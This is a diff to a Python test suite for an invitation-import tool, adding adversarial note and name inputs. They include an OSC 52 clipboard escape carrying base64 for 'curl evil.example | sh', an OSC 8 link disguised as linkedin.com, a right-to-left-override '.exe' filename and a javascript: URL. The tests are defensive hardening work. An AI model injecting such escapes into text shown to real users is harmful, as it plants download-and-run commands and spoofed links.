@@ -909,12 +909,29 @@ def _notes() -> list[Case]:
         "emoji-zwj-sequences": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 Hi!",
         "combining-marks-zalgo": "Z̴̡̛̛a̷̧l̸g̶o̵ ̷t̴e̸x̵t̶" * 20,
         "crlf-and-cr-inside-note": "line one\r\nline two\rline three\nline four",
+        # Found by the trust pass (issue 19): a mail-merge tool's unfilled placeholders, terminal escapes.
+        "mustache-placeholder": "Hi {{firstName}}, I am a student looking for an internship in SEO",
+        "bracket-placeholder": "Hi [Name], we met at the SEO Camp in Lyon last week",
+        "osc52-clipboard-write": "Hello\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 Camille",
+        "osc8-disguised-link": "\x1b]8;;https://evil.example\x07https://linkedin.com\x1b]8;;\x07",
+        "clear-screen-and-c1-csi": "\x1b[2J\x1b[H\x9b31mred",
+        "bidi-override": "Invoice \u202efdp.exe",
     }
     for label, payload in payloads.items():
         person = f"Payload {label.replace('-', ' ').title()}"
         cases.append(Case(f"note-{label}", cat, inv_file(invitations(inv(person, note=payload))),
                           rows=[("invitations", {"name": person}, {"note": payload.strip()})],
                           why="notes are data: stored verbatim (escaped on the page, quote-prefixed in CSV exports)"))
+    cases.append(Case("name-with-terminal-escapes", cat,
+                      inv_file(invitations(inv("Eve\x1b]52;c;ZXZpbA==\x07Mallory", url="https://www.linkedin.com/in/eve-osc"))),
+                      rows=[("invitations", {"person_key": "eve-osc"}, {"name": "Eve\x1b]52;c;ZXZpbA==\x07Mallory"})],
+                      why="stored as written; every terminal output and CSV shows the escape as text (\\u001b)"))
+    cases.append(Case("same-person-export-and-pending-different-precision", cat,
+                      lambda d: _export_and_pending(d),
+                      rows=[("invitations", {"person_key": "same-person"}, {"headline": "Growth lead",
+                                                                             "sent_at": "2025-03-10T03:43:00+00:00"})],
+                      new={"invitations": 1},
+                      why="one person, one invitation: the pending row (day precision) merges into the export's"))
     cases.append(Case("pending-javascript-profile-url", cat,
                       single("pending.csv", pending(prow("Js Url", url="javascript:alert(1)"))),
                       rows=[("invitations", {"name": "Js Url"}, {"profile_url": "javascript:alert(1)",
@@ -934,6 +951,15 @@ def _notes() -> list[Case]:
                       single("pending.csv", pending(prow("Bad Pending Url", url="https://a\u2100b.com/in/x"))),
                       "profile URL", line=2))
     return cases
+
+
+def _export_and_pending(d: Path) -> Built:
+    export = d / "export"
+    _write_tree(export, {"Invitations.csv": invitations(inv("Same Person", url="https://www.linkedin.com/in/same-person"))})
+    pend = d / "pending.csv"
+    pend.write_text("name,headline,profile_url,sent_at\n"
+                    "Same Person,Growth lead,https://fr.linkedin.com/in/Same-Person/?trk=x,2025-03-09\n", encoding="utf-8")
+    return Built([str(export), str(pend)], str(pend))
 
 
 def _dates() -> list[Case]:
